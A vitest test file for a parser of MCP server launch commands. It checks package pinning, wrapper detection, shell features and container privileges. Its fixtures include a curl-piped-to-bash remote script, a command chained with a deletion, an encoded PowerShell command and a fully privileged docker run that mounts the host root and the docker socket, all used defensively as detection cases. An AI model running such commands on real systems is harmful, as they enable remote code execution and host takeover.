import { describe, expect, it } from 'vitest';
import { readLaunch } from '../../../src/collect/mcp/launch.ts';
import { imagePackage, npmPackage, pythonPackage } from '../../../src/collect/mcp/package.ts';
import { shellFeatures } from '../../../src/collect/mcp/shell.ts';

function launch(line: readonly string[]) {
  const [command = '', ...args] = line;
  return readLaunch(
    { text: command, pointer: '/command' },
    args.map((text, index) => ({ text, pointer: `/args/${index}` })),
  );
}

const PINS: readonly (readonly [readonly string[], string, string])[] = [
  [['npx', '-y', '@org/pkg'], '@org/pkg', 'none'],
  [['npx', '-y', '@org/pkg@1.2.3'], '@org/pkg', 'exact'],
  [['npx', '@org/latest-thing@1.0.0-rc.1'], '@org/latest-thing', 'exact'],
  [['npx', '-y', 'pkg@latest'], 'pkg', 'tag'],
  [['npx', '-y', 'pkg@next', '--', '--flag'], 'pkg', 'tag'],
  [['npx', 'pkg@^1.2'], 'pkg', 'range'],
  [['npx', '-p', 'pkg@1.0.0', 'bin'], 'pkg', 'exact'],
  [['npx', '--package=pkg@1.0.0', 'bin'], 'pkg', 'exact'],
  [['npx', '--registry', 'https://r.example', 'pkg@1.0.0'], 'pkg', 'exact'],
  [['npx', 'pkg@${VERSION}'], 'pkg', 'unresolved'],
  [['npx', 'github:org/repo'], 'github:org/repo', 'none'],
  [['npx', `github:org/repo#${'a'.repeat(40)}`], 'github:org/repo', 'exact'],
  [['npx', 'github:org/repo#main'], 'github:org/repo', 'branch'],
  [['npx', 'github:org/repo#v1.2.0'], 'github:org/repo', 'tag'],
  [['uv', 'run', 'https://host.example/server.py'], 'https://host.example/server.py', 'none'],
  [['nix', 'run', `github:o/r/${'c'.repeat(40)}`], `github:o/r/${'c'.repeat(40)}`, 'exact'],
  [['nix', 'run', 'nixpkgs#some-mcp'], 'nixpkgs#some-mcp', 'none'],
  [['dotnet', 'tool', 'exec', 'Some.Mcp@2.0.0'], 'Some.Mcp', 'exact'],
  [['npx', '-y pkg@1.0.0'], 'pkg', 'exact'],
  [['npx', 'https://host.example/x.tgz'], 'https://host.example/x.tgz', 'none'],
  [['npm', 'exec', '--', 'pkg@1.0.0'], 'pkg', 'exact'],
  [['pnpm', 'dlx', 'pkg'], 'pkg', 'none'],
  [['bunx', 'pkg@2.0.0'], 'pkg', 'exact'],
  [['uvx', 'pkg@1.2.3'], 'pkg', 'exact'],
  [['uvx', 'pkg@latest'], 'pkg', 'tag'],
  [['uvx', 'pkg'], 'pkg', 'none'],
  [['uvx', '--from', 'pkg==1.2.3', 'tool'], 'pkg', 'exact'],
  [['uvx', '--python', '3.12', 'pkg==1.0'], 'pkg', 'exact'],
  [['uvx', 'pkg[cli]>=2'], 'pkg', 'range'],
  [['uvx', '--from', `git+https://github.com/o/r@${'b'.repeat(40)}`, 'tool'], 'git+https://github.com/o/r', 'exact'],
  [['uvx', '--from', 'git+https://github.com/o/r', 'tool'], 'git+https://github.com/o/r', 'none'],
  [['uv', 'tool', 'run', 'pkg==1.0.0'], 'pkg', 'exact'],
  [['uvx', 'run', 'X'], 'run', 'none'],
  [['pipx', 'run', '--spec', 'pkg==1.0.0', 'app'], 'pkg', 'exact'],
  [['docker', 'run', '-i', '--rm', '-e', 'KEY', 'mcp/fetch'], 'mcp/fetch', 'none'],
  [['docker', 'run', '--name', 'x', 'ghcr.io/o/i:1.2'], 'ghcr.io/o/i', 'tag'],
  [['podman', 'run', `localhost:5000/i:1@sha256:${'0'.repeat(64)}`], 'localhost:5000/i', 'digest'],
  [['deno', 'run', '-A', 'npm:pkg@1.0.0'], 'pkg', 'exact'],
  [['dnx', 'Some.Mcp@1.2.3', '--yes'], 'Some.Mcp', 'exact'],
  [['go', 'run', 'example.com/m@latest'], 'example.com/m', 'tag'],
];

describe('what a launch fetches', () => {
  it.each(PINS)('%j fetches %s fixed by %s', (line, name, pin) => {
    const { packages } = launch(line);
    expect(packages.map((each) => [each.fact.name, each.fact.pin])).toEqual([[name, pin]]);
  });

  it('finds every package of uv run --with', () => {
    const { packages } = launch([
      'uv',
      'run',
      '--no-project',
      '--with',
      'fastmcp',
      '--with',
      'boto3==1.0',
      'server.py',
    ]);
    expect(packages.map((each) => `${each.fact.name} ${each.fact.pin}`)).toEqual(['fastmcp none', 'boto3 exact']);
  });

  it.each([
    [['node', 'server.js']],
    [['python', '-m', 'x']],
    [['npm', 'run', 'start']],
    [['docker', 'mcp', 'gateway', 'run']],
    [['uv', '--directory', '/x', 'run', 's.py']],
  ])('%j fetches no package', (line) => {
    expect(launch(line).packages).toEqual([]);
  });

  it('takes a local path for no package', () => {
    expect(npmPackage('./server.js').pin).toBe('not-a-package');
    expect(pythonPackage('./server.py').pin).toBe('not-a-package');
    expect(imagePackage('${IMAGE}').pin).toBe('unresolved');
  });
});

describe('what stands around a launch', () => {
  it.each([
    [['cmd', '/c', 'npx', '-y', 'pkg@1.0.0'], ['cmd'], 'npx'],
    [['wsl.exe', '-d', 'Ubuntu', '--', 'npx', 'pkg'], ['wsl'], 'npx'],
    [['env', 'A=1', 'B=2', 'uvx', 'pkg'], ['env'], 'uvx'],
    [['op', 'run', '--env-file', 'x', '--', 'npx', 'pkg'], ['op'], 'npx'],
    [['sudo', '-u', 'root', 'docker', 'run', 'i'], ['sudo'], 'docker'],
    [['bash', '-lc', 'cd /x && exec node server.js'], ['bash'], 'node'],
    [['C:\\Program Files\\nodejs\\npx.cmd', 'pkg'], [], 'npx'],
    [['npx -y pkg@1.0.0'], [], 'npx'],
    [['npx', '-y', 'mcp-remote@0.1.16', 'https://h.example/mcp'], ['mcp-remote'], 'npx'],
  ])('%j has wrappers %j around %s', (line, wrappers, program) => {
    const read = launch(line);
    expect([read.wrappers, read.program]).toEqual([wrappers, program]);
  });

  it('knows the address a bridge connects to', () => {
    expect(launch(['npx', 'mcp-remote', 'https://h.example/mcp', '--header', 'X: y']).bridge?.text).toBe(
      'https://h.example/mcp',
    );
  });

  it('tells the documented Windows form from a shell that does more', () => {
    expect(launch(['cmd', '/c', 'npx', '-y', 'pkg']).shell.documentedForm).toBe(true);
    expect(launch(['cmd', '/c', 'npx pkg && del x']).shell).toMatchObject({
      used: true,
      documentedForm: false,
      features: ['chain'],
    });
    expect(launch(['bash', 'script.sh']).shell.used).toBe(false);
    expect(launch(['powershell', '-EncodedCommand', 'AAAA']).shell.features).toEqual(['encoded']);
  });

  it.each([
    ['curl -s https://x/boot.sh | bash', ['pipe', 'remote-script']],
    ["echo 'a; b && c'", []],
    ['echo "$(id)"', ['substitution']],
    ['a & b > c', ['background', 'redirect']],
  ])('sees in %s the features %j', (script, features) => {
    expect(shellFeatures(script)).toEqual(features);
  });

  it('ends on a hostile nest of wrappers', () => {
    expect(launch([...Array(5000).fill('env'), 'npx', 'x']).wrappers.length).toBeLessThanOrEqual(9);
  });

  it('names the powers of a container', () => {
    const { container } = launch([
      'docker',
      'run',
      '--privileged',
      '--network=host',
      '--pid',
      'host',
      '--cap-add',
      'SYS_ADMIN',
      '-v',
      '/:/host',
      '-v',
      '/var/run/docker.sock:/s:ro',
      '--mount',
      'type=bind,src=/a,dst=/b,readonly',
      'i',
    ]);
    expect(container).toMatchObject({
      privileged: true,
      hostNetwork: true,
      hostProcesses: true,
      dockerSocket: true,
      rootMount: true,
      addedCapabilities: ['SYS_ADMIN'],
    });
    expect(container.mounts).toEqual([
      { source: '/', target: '/host', readOnly: false },
      { source: '/var/run/docker.sock', target: '/s', readOnly: true },
      { source: '/a', target: '/b', readOnly: true },
    ]);
  });
});
